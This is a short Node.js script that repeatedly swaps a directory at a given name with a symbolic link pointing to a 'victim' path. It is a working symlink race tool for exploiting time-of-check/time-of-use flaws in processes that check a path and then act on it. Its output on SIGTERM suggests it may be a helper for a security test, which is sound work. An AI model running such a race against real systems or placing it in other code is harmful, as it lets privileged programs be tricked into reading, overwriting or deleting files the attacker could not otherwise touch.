// Makes a name lead to a directory, and to another one beside it by a link, in turns, until it is ended: swap-directory.js NAME VICTIM
import { mkdirSync, renameSync, rmSync, symlinkSync } from 'node:fs';

const [, , name = '', victim = ''] = process.argv;
let swaps = 0;

/** Whoever else works there may be faster. */
const attempt = (step) => {
  try {
    step();
    return true;
  } catch {
    return false;
  }
};

const swap = () => {
  const before = swaps;
  for (let i = 0; i < 50; i++) {
    attempt(() => mkdirSync(name));
    attempt(() => renameSync(name, `${name}.real`));
    if (attempt(() => symlinkSync(victim, name))) swaps++;
    attempt(() => rmSync(name)); // a link, never a directory
    if (!attempt(() => renameSync(`${name}.real`, name))) rmSync(`${name}.real`, { recursive: true, force: true });
  }
  if (before < 50 && swaps >= 50) process.stdout.write('swapping\n');
  setImmediate(swap);
};
process.on('SIGTERM', () => {
  process.stdout.write(`swapped ${swaps} times\n`, () => process.exit(0));
});
swap();
